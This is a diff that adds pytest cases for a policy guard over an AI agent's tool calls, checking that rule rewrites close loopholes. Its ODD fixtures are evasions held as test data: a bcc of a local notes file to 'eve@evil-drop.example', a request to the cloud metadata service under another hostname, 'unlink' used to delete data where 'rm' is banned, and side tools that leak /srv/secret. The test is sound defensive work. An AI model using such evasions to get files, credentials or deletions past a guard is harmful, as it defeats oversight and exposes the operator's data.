@@ -450,3 +450,107 @@ def test_calls_are_decided_as_a_guard_does() -> None:
             ):
                 is_allowed = _decided(source, (call,), TOOLS) is Verdict.ALLOW
                 assert one.trials.allows((call,)) is one.trials.confirms((call,)) is is_allowed
+
+
+PRESS = read_agent("""
+name = "press"
+
+[tools.post.parameters]
+type = "object"
+required = ["body"]
+properties = {body = {type = "string"}, audience = {type = "string", description = "everyone if left out"}}
+[tools.list_files]
+cwd = "/srv"
+fields = {folder = {type = "path"}}
+[tools.list_files.parameters]
+type = "object"
+required = ["pattern"]
+properties = {pattern = {type = "string"}, folder = {type = "string"}}
+[tools.send_file]
+cwd = "/srv"
+description = "Sends a file."
+fields = {path = {type = "path"}, to = {type = "mail_address"}}
+[tools.send_file.parameters]
+type = "object"
+required = ["path", "to"]
+properties = {path = {type = "string"}, to = {type = "string"}, bcc = {type = "string"}}
+[tools.expose]
+description = "Let another person see a document"
+[tools.expose.parameters]
+type = "object"
+required = ["item", "who"]
+properties = {item = {type = "string"}, who = {type = "string"}}
+[tools.pin_entry]
+description = "Make an entry that stands for another one"
+[tools.pin_entry.parameters]
+type = "object"
+required = ["here", "there"]
+properties = {here = {type = "string"}, there = {type = "string"}}
+[tools.load]
+parameters = {type = "object", required = ["url"], properties = {url = {type = "string", format = "uri"}}}
+[tools.run]
+shell = "bash"
+cwd = "/srv"
+parameters = {type = "object", required = ["command"], properties = {command = {type = "string"}}}
+fields = {command = {type = "command"}}
+""")
+_LOGGED = (
+    TriedCall("expose", {"item": "/srv/docs/plan.md", "who": "lee@corp.example"}),
+    TriedCall("pin_entry", {"here": "/srv/docs/a.md", "there": "/srv/docs/b.md"}),
+)
+_SENT = {"path": "/srv/out/a", "to": "lee@corp.example"}
+ODD = {
+    "a value that a call takes which has none": (
+        "Nothing goes to everyone.", "Post", 'call.audience == "everyone"',
+        TriedCall("post", {"body": "body1"}), TriedCall("post", {"body": "body1", "audience": "staff"})),
+    "a folder that is left out": (
+        "List below /srv/docs.", "ListFiles",
+        'call.folder is not None and "/srv/docs" not in call.folder.inside',
+        TriedCall("list_files", {"pattern": "pattern1"}),
+        TriedCall("list_files", {"pattern": "x", "folder": "/srv/docs/a"})),
+    "a tool that shows it to others, by its description and its logged values": (
+        "Nothing below /srv/secret is sent.", "SendFile", '"/srv/secret" in call.path.inside',
+        TriedCall("expose", {"item": "/srv/secret", "who": "lee@corp.example"}), None),
+    "a tool of which nothing says what it does": (
+        "Nothing below /srv/secret is sent.", "SendFile", '"/srv/secret" in call.path.inside',
+        TriedCall("pin_entry", {"here": "/srv/secret", "there": "/srv/docs/b.md"}), None),
+    "copies to others, in a field of no kind": (
+        "Files go to corp.example.", "SendFile", 'call.to.domain != "corp.example"',
+        TriedCall("send_file", {**_SENT, "path": "/home/agent/notes.txt", "bcc": "eve@evil-drop.example"}),
+        TriedCall("send_file", _SENT)),
+    "either of two, where one of them is asked of a path": (
+        "Only what is below /srv/out is sent, and only to corp.example.", "SendFile",
+        'not ("/srv/out" in call.path.inside or call.to.domain == "corp.example")',
+        TriedCall("send_file", {"path": "/home/agent/notes.txt", "to": "lee@corp.example"}),
+        TriedCall("send_file", _SENT)),
+    "other names of a machine, of which no other address is one": (
+        "Nothing from the metadata service.", "Load", 'call.url.host == "169.254.169.254"',
+        TriedCall("load", {"url": "http://metadata.google.internal/"}),
+        TriedCall("load", {"url": "http://10.0.0.7/x"})),
+    "another program, of which only one use has the effect": (
+        "Delete nothing.", "Run_", '"rm" in call.command.programs',
+        TriedCall("run", {"command": "unlink /srv/data"}), TriedCall("run", {"command": "find . -name x"})),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", ODD)
+def test_a_rewriting_closes_what_is_shown_and_nothing_beside(kind: str) -> None:
+    sentence, name, condition, passing, harmless = ODD[kind]
+    source = OFFICE.format(classes=name) + (
+        f'\n\ndef forbid_it(call: {name}) -> bool:\n    """R1: {sentence}"""\n    return {condition}\n'
+    )
+    request = [Requirement("R1", sentence, sentence, Span(0, len(sentence)))]
+    logged = [RecordedCall("log", n, one.tool, one.arguments, result="{}") for n, one in enumerate(_LOGGED)]
+    terms = lowered_policy(source, PRESS).terms
+    book = Book(language_of(source, PRESS), PRESS, terms, request, calls=logged)
+    tried = HolesByRule(book)
+    (found,) = (one for one in tried.of(book.rules[0]) if any(passing in each.calls for each in one.every))
+
+    assert _decided(source, (passing,), PRESS) is Verdict.ALLOW
+    if harmless is None:  # the tool says nothing of the kind of its fields
+        assert found.closing is None and "agent.toml" in found.attempt.advice
+        return
+    assert found.closing is not None
+    text, _ = with_effect(book.language, source, found.closing.effect, open_default=True)
+    assert _decided(text, (passing,), PRESS) is not Verdict.ALLOW
+    assert _decided(text, (harmless,), PRESS) is Verdict.ALLOW
